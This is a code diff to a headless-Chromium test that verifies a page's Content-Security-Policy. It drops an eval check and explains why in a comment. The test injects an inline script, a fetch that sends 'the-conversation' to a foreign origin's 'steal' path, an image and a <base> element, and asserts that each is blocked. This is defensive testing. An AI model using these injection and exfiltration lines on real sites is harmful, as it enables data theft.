@@ -59,18 +59,11 @@ describe('the Content-Security-Policy in headless Chromium', () => {
     expect(pageErrors).toEqual([]);
   });
 
-  it('blocks injected inline script, eval, an image and a fetch to another origin, and a <base>; the page keeps working', async () => {
+  it('blocks injected inline script, an image and a fetch to another origin, and a <base>; the page keeps working', async () => {
     const outcome = await page.evaluate(async (foreign) => {
       const script = document.createElement('script');
       script.textContent = 'window.__pwned = true';
       document.body.append(script);
-      let evalBlocked = false;
-      try {
-        // eslint-disable-next-line no-eval
-        (0, eval)('1');
-      } catch {
-        evalBlocked = true;
-      }
       let fetchBlocked = false;
       try {
         await fetch(`${foreign}steal?d=the-conversation`);
@@ -88,9 +81,10 @@ describe('the Content-Security-Policy in headless Chromium', () => {
       document.head.append(base);
       const baseApplied = document.baseURI.startsWith(foreign);
       base.remove();
-      return { pwned: (window as unknown as { __pwned?: boolean }).__pwned === true, evalBlocked, fetchBlocked, image: await imageDone, baseApplied };
+      return { pwned: (window as unknown as { __pwned?: boolean }).__pwned === true, fetchBlocked, image: await imageDone, baseApplied };
     }, otherUrl);
-    expect(outcome).toEqual({ pwned: false, evalBlocked: true, fetchBlocked: true, image: 'blocked', baseApplied: false });
+    // (eval cannot be tried from here: DevTools-evaluated code is exempt; the policy has no 'unsafe-eval', see page-policy.test.ts.)
+    expect(outcome).toEqual({ pwned: false, fetchBlocked: true, image: 'blocked', baseApplied: false });
     await expect.poll(async () => (await violations()).map((v) => v.directive).sort()).toEqual(expect.arrayContaining(['connect-src', 'img-src', 'script-src-elem']));
     expect(otherHits).toBe(0);
     // Still working: the settings drawer opens and answers.
